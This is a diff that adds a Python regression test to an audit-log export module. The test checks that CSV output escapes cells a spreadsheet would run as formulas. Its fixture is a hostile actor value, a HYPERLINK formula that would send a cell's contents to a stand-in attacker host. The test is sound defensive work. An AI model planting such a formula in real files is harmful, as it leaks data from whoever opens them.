@@ -573,6 +573,37 @@ def test_csv_export_has_a_header_and_the_same_rows(cs, story, database_url, caps
     ]
 
 
+def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text():
+    """A member's address may begin with "=" (it is a valid e-mail address): opened in an
+    auditor's spreadsheet, the CSV ran it as a formula. JSON lines keep it as stored."""
+    from datetime import UTC, datetime
+
+    from countersign.infrastructure.audit.export import write_export
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")@granite.example'
+    row = {
+        "position": 7,
+        "at": datetime(2026, 12, 6, tzinfo=UTC),
+        "organization_id": "o",
+        "proposal_id": "p",
+        "version": 1,
+        "operation": "order.refund_missing_discount",
+        "event_type": "Approved",
+        "actor": hostile,
+        "summary": "+1 approved",
+        "chain": "ab",
+    }
+    out = io.StringIO()
+    assert write_export([row], "csv", out) == 1
+    [written] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert written["actor"] == "'" + hostile
+    assert written["summary"] == "'+1 approved"
+    assert (written["position"], written["chain"]) == ("7", "ab")
+    lines = io.StringIO()
+    write_export([row], "jsonl", lines)
+    assert json.loads(lines.getvalue())["actor"] == hostile
+
+
 def test_export_by_organization_holds_nothing_of_another(cs, story, seeded, database_url, capsys):
     orgs = {o["slug"]: o["id"] for o in seeded["organizations"]}
 
